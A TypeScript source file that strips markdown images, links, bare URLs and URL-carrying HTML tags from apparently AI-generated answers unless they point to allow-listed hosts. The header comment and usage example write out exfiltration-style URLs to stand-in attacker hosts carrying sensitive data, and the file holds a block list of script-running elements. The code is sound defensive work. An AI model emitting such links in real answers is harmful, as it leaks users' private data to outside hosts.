// SPDX-License-Identifier: Apache-2.0
/**
 * Link neutralisation: an answer must not make the reader's screen fetch, or invite a click to, a
 * host the deployment has not listed (`output.allowedLinkHosts`). A markdown image is fetched the
 * moment it renders, so `![](https://attacker.example/?q=<PHI>)` is an exfiltration channel with
 * no click at all; links and bare URLs are one click away.
 *
 * Handled (CommonMark and GitHub-flavoured markdown, plus the HTML a renderer may pass through):
 * inline images and links (`![alt](url "title")`, `[text](<url>)`), reference definitions
 * (`[ref]: url` — removed, so `[text][ref]` and `![alt][ref]` resolve to nothing), autolinks
 * (`<https://…>`), HTML tags carrying URLs (`<img src>`, `<a href>`, `srcset`, `style="…url()"`,
 * `<iframe>`, `<script>` …) and bare URLs (`https://…`, `www.…`). Destinations are read the way a
 * browser would: entities and backslash escapes decoded, whitespace and control characters
 * dropped, then parsed with WHATWG `URL` (so `https://kb.example.org@attacker.example/` is the
 * attacker's host). Only absolute `http(s)` URLs to a listed host survive; relative URLs,
 * `data:`, `javascript:`, `mailto:` and the rest do not.
 *
 * What replaces them: a link keeps its text, an image its alt text (or the marker when it has
 * none), an HTML link keeps the text after it, everything else becomes the marker.
 */

export interface LinkPolicy {
  /** Lower-case host names; a listed host allows its sub-domains. */
  readonly allowedHosts: readonly string[];
  /** Written where an image without alt text, an autolink, an HTML element or a bare URL was. */
  readonly marker: string;
}

export interface NeutralisedLinks {
  readonly text: string;
  /** How many links, images, definitions, tags and URLs were neutralised. */
  readonly removed: number;
  /** The removed destinations, for the leak check's accounting only; never logged. */
  readonly destinations: readonly string[];
}

const namedEntities: Readonly<Record<string, string>> = {
  amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', sol: '/', bsol: '\\', period: '.', comma: ',', quest: '?',
  equals: '=', num: '#', percnt: '%', lpar: '(', rpar: ')', tab: '\t', newline: '\n', nbsp: ' ', commat: '@', plus: '+',
};

/** Decodes HTML character references; `undefined` when an unknown named reference remains. */
function decodeEntities(text: string): string | undefined {
  let unknown = false;
  const out = text.replace(/&(#[xX][0-9a-fA-F]{1,6}|#\d{1,7}|[a-zA-Z][a-zA-Z0-9]{1,31});?/g, (whole, ref: string) => {
    if (ref.startsWith('#')) {
      const code = ref[1] === 'x' || ref[1] === 'X' ? Number.parseInt(ref.slice(2), 16) : Number.parseInt(ref.slice(1), 10);
      return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : '';
    }
    const value = namedEntities[ref.toLowerCase()];
    if (value === undefined) {
      // "&copy" in prose is harmless; inside a destination an unreadable reference is refused
      unknown = whole.endsWith(';') || unknown;
      return whole;
    }
    return value;
  });
  return unknown ? undefined : out;
}

/** Whether a destination, read as a browser would, is an absolute http(s) URL to an allowed host. */
export function isAllowedDestination(destination: string, allowedHosts: readonly string[]): boolean {
  if (allowedHosts.length === 0) return false;
  let d = destination.trim();
  if (d.startsWith('<') && d.endsWith('>')) d = d.slice(1, -1);
  d = d.replace(/\\([!-/:-@[-`{-~])/g, '$1');
  const decoded = decodeEntities(d);
  if (decoded === undefined) return false;
  // Browsers drop tabs, newlines and other controls inside URLs ("java\tscript:"), and so do we.
  // eslint-disable-next-line no-control-regex -- control characters are exactly what is removed here
  d = decoded.replace(/[\u0000-\u0020\u007f-\u009f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]/g, '');
  if (/^www\./i.test(d)) d = `http://${d}`;
  if (!/^https?:\/\//i.test(d)) return false;
  let url: URL;
  try {
    url = new URL(d);
  } catch {
    return false;
  }
  if (url.username !== '' || url.password !== '') return false;
  const host = url.hostname.toLowerCase().replace(/\.$/, '');
  return allowedHosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`));
}

// Link text: no unescaped brackets except one nested level.
const linkText = String.raw`((?:[^\[\]\\]|\\[\s\S]|\[(?:[^\[\]\\]|\\[\s\S]){0,500}\]){0,1000})`;
// Inside "(…)": a destination (<…> or without spaces, balanced parentheses) and an optional title.
const destinationPart = String.raw`\(\s{0,32}((?:<[^<>\n]{0,4096}>)|(?:[^\s()\\]|\\[\s\S]|\((?:[^\s()\\]|\\[\s\S]){0,512}\)){0,4096})(?:\s{1,32}(?:"(?:[^"\\]|\\[\s\S]){0,1000}"|'(?:[^'\\]|\\[\s\S]){0,1000}'|\((?:[^()\\]|\\[\s\S]){0,1000}\)))?\s{0,32}\)`;
const constructPattern = new RegExp(
  [
    String.raw`(?<image>!\[${linkText.replace('(', '(?<alt>')}\]${destinationPart.replace('((?:<', '(?<imageDest>(?:<')})`,
    String.raw`(?<link>\[${linkText.replace('(', '(?<text>')}\]${destinationPart.replace('((?:<', '(?<dest>(?:<')})`,
    String.raw`(?<definition>^[ \t]{0,3}\[(?:[^\[\]\\\n]|\\.){1,999}\]:[ \t]{0,32}\n?[ \t]{0,32}(?<defDest><[^<>\n]{0,4096}>|\S{1,4096})(?:[ \t]{1,32}(?:"[^"\n]{0,1000}"|'[^'\n]{0,1000}'|\([^()\n]{0,1000}\)))?[ \t]{0,32}$)`,
    String.raw`(?<autolink><(?<autoDest>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]{0,4096})>)`,
    String.raw`(?<tag><(?<tagName>[a-zA-Z][a-zA-Z0-9-]{0,31})(?<attrs>(?:\s[^<>]{0,4096})?)\/?>)`,
    String.raw`(?<bare>(?<![\p{L}\p{N}@/.:-])(?:(?:https?|ftp):\/\/|www\.)[^\s<>"'\x60\u0000-\u001f]{1,4096})`,
  ].join('|'),
  'gmu',
);

const urlAttributes = new Set([
  'src', 'href', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'cite', 'longdesc', 'lowsrc', 'dynsrc', 'xlink:href',
  'ping', 'manifest', 'codebase', 'archive', 'usemap', 'profile', 'icon', 'content', 'style', 'imagesrcset', 'itemtype',
]);
/** Elements that load or run something whatever their attributes say. */
const dangerousElements = new Set(['script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'link', 'meta', 'base', 'form', 'svg', 'math', 'portal', 'template']);
const attributePattern = /([a-zA-Z_:][-a-zA-Z0-9_:.]*)\s*=\s*("[^"]*"|'[^']*'|[^\s"'=<>`]+)/g;

function tagAllowed(name: string, attrs: string, hosts: readonly string[]): boolean {
  if (dangerousElements.has(name.toLowerCase())) return false;
  for (const m of attrs.matchAll(attributePattern)) {
    const attr = (m[1] ?? '').toLowerCase();
    const raw = m[2] ?? '';
    const value = raw.startsWith('"') || raw.startsWith("'") ? raw.slice(1, -1) : raw;
    const urls: string[] = [];
    if (attr === 'srcset' || attr === 'imagesrcset') for (const part of value.split(',')) urls.push(part.trim().split(/\s+/)[0] ?? '');
    else if (attr === 'style' || attr === 'content') {
      for (const u of value.matchAll(/url\s*[(=]\s*['"]?([^'")\s;]+)/gi)) urls.push(u[1] ?? '');
      if (/expression\s*\(|@import/i.test(value)) return false;
    } else if (urlAttributes.has(attr)) urls.push(value);
    else if (/^\s*(?:[a-z][a-z0-9+.-]*:|\/\/)/i.test(decodeEntities(value) ?? 'x:')) urls.push(value);
    if (attr.startsWith('on')) return false;
    for (const url of urls) if (url !== '' && !isAllowedDestination(url, hosts)) return false;
  }
  return true;
}

/** GFM's end of a bare URL: trailing punctuation and unbalanced closing parentheses are not part of it. */
function trimBareUrl(url: string): string {
  let u = url.replace(/[?!.,:;*_~'"]+$/, '');
  while (u.endsWith(')') && (u.match(/\(/g)?.length ?? 0) < (u.match(/\)/g)?.length ?? 0)) u = u.slice(0, -1).replace(/[?!.,:;*_~'"]+$/, '');
  return u;
}

function neutralise(text: string, policy: LinkPolicy, depth: number, acc: { removed: number; destinations: string[] }): string {
  if (depth > 4) {
    // Constructs nested deeper than any renderer's need: defuse rather than parse.
    return text.replace(/[[<]/g, (c) => (c === '[' ? '\\[' : '&lt;'));
  }
  const hosts = policy.allowedHosts;
  constructPattern.lastIndex = 0;
  return text.replace(constructPattern, (whole: string, ...args: unknown[]) => {
    const groups = args[args.length - 1] as Record<string, string | undefined>;
    if (groups.image !== undefined) {
      const alt = groups.alt ?? '';
      const destination = groups.imageDest ?? '';
      if (isAllowedDestination(destination, hosts)) return `![${neutralise(alt, policy, depth + 1, acc)}]${whole.slice(alt.length + 3)}`;
      acc.removed += 1;
      acc.destinations.push(destination);
      const kept = neutralise(alt, policy, depth + 1, acc).trim();
      return kept === '' ? policy.marker : kept;
    }
    if (groups.link !== undefined) {
      const inner = groups.text ?? '';
      const destination = groups.dest ?? '';
      const rest = whole.slice(inner.length + 2);
      if (isAllowedDestination(destination, hosts)) return `[${neutralise(inner, policy, depth + 1, acc)}]${rest}`;
      acc.removed += 1;
      acc.destinations.push(destination);
      return neutralise(inner, policy, depth + 1, acc);
    }
    if (groups.definition !== undefined) {
      const destination = groups.defDest ?? '';
      if (isAllowedDestination(destination, hosts)) return whole;
      acc.removed += 1;
      acc.destinations.push(destination);
      return '';
    }
    if (groups.autolink !== undefined) {
      const destination = groups.autoDest ?? '';
      if (isAllowedDestination(destination, hosts)) return whole;
      acc.removed += 1;
      acc.destinations.push(destination);
      return policy.marker;
    }
    if (groups.tag !== undefined) {
      const name = groups.tagName ?? '';
      if (tagAllowed(name, groups.attrs ?? '', hosts)) return whole;
      acc.removed += 1;
      acc.destinations.push(groups.attrs ?? '');
      return name.toLowerCase() === 'a' ? '' : policy.marker;
    }
    // a bare URL
    const url = trimBareUrl(whole);
    const rest = whole.slice(url.length);
    if (isAllowedDestination(url, hosts)) return whole;
    acc.removed += 1;
    acc.destinations.push(url);
    // What follows the URL (its trailing punctuation) may itself start another construct.
    return policy.marker + neutralise(rest, policy, depth + 1, acc);
  });
}

/**
 * Neutralises every image, link, definition, autolink, URL-carrying HTML tag and bare URL whose
 * destination is not an allowed host.
 *
 * @example
 * neutraliseLinks('See ![x](https://evil.example/?q=1) and [guide](https://kb.example.org/a)', { allowedHosts: ['kb.example.org'], marker: '[link removed]' })
 * // → { text: 'See x and [guide](https://kb.example.org/a)', removed: 1, … }
 */
export function neutraliseLinks(text: string, policy: LinkPolicy): NeutralisedLinks {
  const acc = { removed: 0, destinations: [] as string[] };
  const out = /[[<:w]/i.test(text) ? neutralise(text, policy, 0, acc) : text;
  return { text: out, removed: acc.removed, destinations: acc.destinations };
}

/** How far back an unclosed bracket or tag still counts as the start of a construct. */
export const constructHorizon = 4096;

/**
 * Where a construct that the end of `text` leaves open starts (an unclosed `[`, `](`, `<tag`,
 * or a trailing `!`/`<`), or -1. The stream filter never releases text from there on until the
 * construct closes (or the horizon passes), so a link is always judged whole.
 */
export function openConstructStart(text: string): number {
  let i = Math.max(0, text.length - constructHorizon);
  const n = text.length;
  while (i < n) {
    const c = text[i];
    if (c === '\\') {
      i += 2;
      continue;
    }
    if (c === '[') {
      const close = matchBracket(text, i);
      if (close < 0) return i;
      const after = close + 1;
      // "[text]" at the very end may still become "[text](…)", "[text][ref]" or "[ref]: …"
      if (after >= n) return i;
      if (text[after] === '(' && matchParen(text, after) < 0) return i;
      if (text[after] === '[' && matchBracket(text, after) < 0) return i;
      if (text[after] === ':' && text.indexOf('\n', after) < 0) return i;
      i = after;
      continue;
    }
    if (c === '<') {
      const next = text[i + 1];
      if (next === undefined) return i;
      if (/[a-zA-Z/!?]/.test(next)) {
        const end = text.indexOf('>', i);
        if (end < 0) return i;
        i = end + 1;
        continue;
      }
    }
    if (c === '!' && i === n - 1) return i;
    i++;
  }
  return -1;
}

function matchBracket(text: string, at: number): number {
  let depth = 0;
  for (let i = at; i < text.length; i++) {
    const c = text[i];
    if (c === '\\') i++;
    else if (c === '[') depth++;
    else if (c === ']' && --depth === 0) return i;
  }
  return -1;
}

function matchParen(text: string, at: number): number {
  let depth = 0;
  for (let i = at; i < text.length; i++) {
    const c = text[i];
    if (c === '\\') i++;
    else if (c === '(') depth++;
    else if (c === ')' && --depth === 0) return i;
  }
  return -1;
}

/** Escapes the openers of constructs cut by a forced split, so neither half can render as a link. */
export function defuseOpenConstructs(text: string): string {
  return text.replace(/\\?[[<]/g, (c) => (c.length === 2 ? c : c === '[' ? '\\[' : '&lt;'));
}
